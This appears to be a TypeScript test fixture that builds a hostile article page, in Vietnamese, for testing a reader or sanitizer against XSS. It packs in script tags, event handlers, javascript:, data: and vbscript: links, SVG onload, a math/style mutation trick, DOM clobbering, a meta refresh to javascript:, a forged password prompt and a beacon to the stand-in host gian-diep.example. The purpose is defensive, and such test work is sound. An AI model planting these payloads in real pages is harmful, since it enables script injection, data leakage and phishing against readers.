import { articlePage } from '../../tools/make-page.ts';

/** A host nobody of ours asks: each request to it means that something of the page ran or loaded. */
export const SPY_HOST = 'gian-diep.example';

/** Raises a flag in whatever window runs it, and tells the spy where that was. */
const PAYLOAD = `window.daChay=(window.daChay||0)+1;new Image().src='https://${SPY_HOST}/'+encodeURIComponent(location.protocol)`;
const inAttribute = PAYLOAD.replaceAll('"', '&quot;');
const encoded = encodeURIComponent(`<script>${PAYLOAD}</script>`);

const SHADOWED = ['querySelector', 'querySelectorAll', 'cloneNode', 'childNodes', 'body', 'remove'];

/** What attackers of readers have tried, among the paragraphs of an article. */
const ATTACKS = `
  <script>${PAYLOAD}</script>
  <p onclick="${inAttribute}" onmouseover="${inAttribute}">Đoạn có tay bắt sự kiện của phường.</p>
  <p>Liên kết <a href="javascript:${inAttribute}">kiểu javascript</a>, <a href="JaVa&#9;ScRiPt:${inAttribute}">viết lẫn</a>, <a href="data:text/html,${encoded}">kiểu data</a> và <a href="vbscript:msgbox(1)">vbscript</a> trong một câu.</p>
  <img src="x:loi" onerror="${inAttribute}">
  <img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${PAYLOAD}"/>`)}">
  <svg onload="${inAttribute}"><script>${PAYLOAD}</script><a href="javascript:${inAttribute}"><text>Chữ trong hình</text></a><foreignObject><p onclick="${inAttribute}">Chữ ngoài hình</p></foreignObject></svg>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${inAttribute}&gt;"></mglyph></table></mtext></math>
  <iframe srcdoc="<script>${inAttribute}</script>"></iframe>
  <iframe src="https://${SPY_HOST}/khung"></iframe>
  <object data="data:text/html,${encoded}"></object><embed src="https://${SPY_HOST}/nhung">
  <form action="https://${SPY_HOST}/gui"><button formaction="javascript:${inAttribute}">Đã lưu vào thư viện Tỏ Tường</button></form>
  <h1>Tiêu đề giả của trang</h1><h2>Tỏ Tường: hãy nhập mật khẩu</h2>
  ${SHADOWED.map((name) => `<img name="${name}" id="${name}"><form id="${name}"><input name="${name}"></form>`).join('')}
  <p style="position:fixed;inset:0;background:url(https://${SPY_HOST}/nen)">Đoạn muốn che cả màn hình của phường.</p>
  <template><script>${PAYLOAD}</script></template><noscript><img src="https://${SPY_HOST}/khong-script"></noscript>`;

/** The page's head tries too: scripts, a refresh, a forged title of the whole. */
const HEAD = `<script>${PAYLOAD}</script>
  <meta http-equiv="refresh" content="900; url=javascript:${inAttribute}">
  <script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x onerror=${PAYLOAD.replaceAll('"', '')}>Giả","url":"javascript:0"}</script>
  <link rel="canonical" href="javascript:${inAttribute}"><meta property="og:image" content="data:text/html,${encoded}">`;

export const hostilePage = (): string => articlePage(ATTACKS, { head: HEAD });
